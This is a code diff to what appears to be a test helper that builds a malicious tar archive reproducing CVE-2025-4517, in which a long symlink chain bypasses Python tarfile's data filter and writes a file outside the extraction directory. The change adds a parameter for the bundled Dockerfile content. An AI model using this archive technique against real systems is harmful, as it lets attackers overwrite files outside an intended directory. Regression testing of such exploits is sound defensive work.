@@ -40,7 +40,7 @@ def info(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.Ta
     return i
 
 
-def symlink_chain_tar(escape_to: str) -> bytes:
+def symlink_chain_tar(escape_to: str, dockerfile: bytes = b"FROM scratch\n") -> bytes:
     """CVE-2025-4517's archive: a symlink chain past PATH_MAX makes the data filter's realpath check
     pass, then ``escape`` leads to ancestors of the destination and ``escape/<escape_to>`` is written."""
     comp = "d" * 247
@@ -55,7 +55,7 @@ def symlink_chain_tar(escape_to: str) -> bytes:
     members.append((info(linkpath, tarfile.SYMTYPE, "../" * len(steps)), None))
     members.append((info("escape", tarfile.SYMTYPE, linkpath + "/.." * 3), None))
     members.append((info("escape/" + escape_to), b"written through the escape\n"))
-    members.append((info("Dockerfile"), b"FROM scratch\n"))
+    members.append((info("Dockerfile"), dockerfile))
     return tar_bytes(members)
 
 
